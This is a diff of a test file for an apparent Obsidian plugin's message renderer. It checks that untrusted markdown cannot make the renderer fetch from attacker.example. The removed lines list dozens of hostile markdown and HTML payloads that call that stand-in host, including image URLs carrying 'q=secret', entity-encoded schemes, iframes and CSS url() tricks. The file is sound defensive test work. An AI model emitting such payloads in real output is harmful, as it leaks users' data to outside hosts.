@@ -6,6 +6,7 @@ import { Component } from "obsidian";
 import { asObsidianApp, createTestApp, flush } from "../obsidian/harness";
 import { MessageList } from "../../src/ui/MessageList";
 import { renderUntrustedMarkdown } from "../../src/ui/safeMarkdown";
+import { hostileImages } from "../support/hostileImages";
 import { ManualFrames, message } from "./fakes";
 
 afterEach(() => document.body.empty());
@@ -13,44 +14,7 @@ afterEach(() => document.body.empty());
 const HOST = "attacker.example";
 
 /** Every way an answer can ask the renderer to fetch from attacker.example. */
-export const HOSTILE: Record<string, string> = {
-	"inline image": `![](https://${HOST}/?q=secret)`,
-	"uppercase scheme": `![x](HTTPS://${HOST.toUpperCase()}/x.png)`,
-	"protocol-relative": `![x](//${HOST}/pr.png)`,
-	"angle-bracket destination": `![x](<https://${HOST}/a b.png>)`,
-	"title and spaces": `![x](   https://${HOST}/t.png "title")`,
-	"reference-style": `![x][r]\n\n[r]: https://${HOST}/r.png`,
-	"collapsed reference": `![r][]\n\n[r]: https://${HOST}/c.png`,
-	"numeric entity in the scheme": `![x](&#104;ttps://${HOST}/e.png)`,
-	"named entity for the colon": `![x](https&colon;//${HOST}/n.png)`,
-	"backslash escapes": `![x](https\\://${HOST}/b.png)`,
-	"link-wrapped image": `[![x](https://${HOST}/l.png)](https://example.org)`,
-	"image in a list item": `- ![](https://${HOST}/li.png)`,
-	"image in a quote": `> ![](https://${HOST}/q.png)`,
-	"image in a table": `| a |\n| --- |\n| ![](https://${HOST}/td.png) |`,
-	"wiki embed of a URL": `![[https://${HOST}/w.png]]`,
-	"HTML img": `<img src="https://${HOST}/h.png">`,
-	"HTML img, uppercase, unquoted": `<IMG SRC=//${HOST}/u.png>`,
-	"HTML img with > in an attribute": `<img alt=">" src="https://${HOST}/gt.png">`,
-	"HTML img with srcset": `<img srcset="https://${HOST}/s.png 2x">`,
-	"HTML img with an entity": `<img src="&#x68;ttps://${HOST}/he.png">`,
-	"picture/source": `<picture><source srcset="https://${HOST}/p.png"><img alt="p"></picture>`,
-	"video poster": `<video poster="https://${HOST}/v.png"></video>`,
-	"audio": `<audio src="https://${HOST}/a.mp3"></audio>`,
-	"iframe": `<iframe src="https://${HOST}/f"></iframe>`,
-	"object": `<object data="https://${HOST}/o.svg"></object>`,
-	"embed": `<embed src="https://${HOST}/e.svg">`,
-	"input image": `<input type="image" src="https://${HOST}/i.png">`,
-	"svg image": `<svg><image href="https://${HOST}/svg.png"/></svg>`,
-	"stylesheet link": `<link rel="stylesheet" href="https://${HOST}/s.css">`,
-	"style element": `<style>p{background:url(https://${HOST}/st.png)}</style>`,
-	"CSS url() in a style attribute": `<div style="background:url(https://${HOST}/bg.png)">x</div>`,
-	"CSS image-set() in a style attribute": `<span style='background-image:image-set("https://${HOST}/is.png" 1x)'>x</span>`,
-	"table background": `<table background="https://${HOST}/t.png"><tr><td>x</td></tr></table>`,
-	"inline HTML in a sentence": `Look: <img src=https://${HOST}/s.png> here`,
-	"HTML block hiding a fence": "<div>\n```\n<img src=https://" + HOST + "/fence.png>\n```\n</div>",
-	"odd tag name": `<x\u0000 style="background:url(//${HOST}/nul.png)">`,
-};
+const HOSTILE = hostileImages(`https://${HOST}`);
 
 /** Attributes and style sheets in `root` that name attacker.example (links, titles and alt texts are fine). */
 function leaks(root: HTMLElement): string[] {
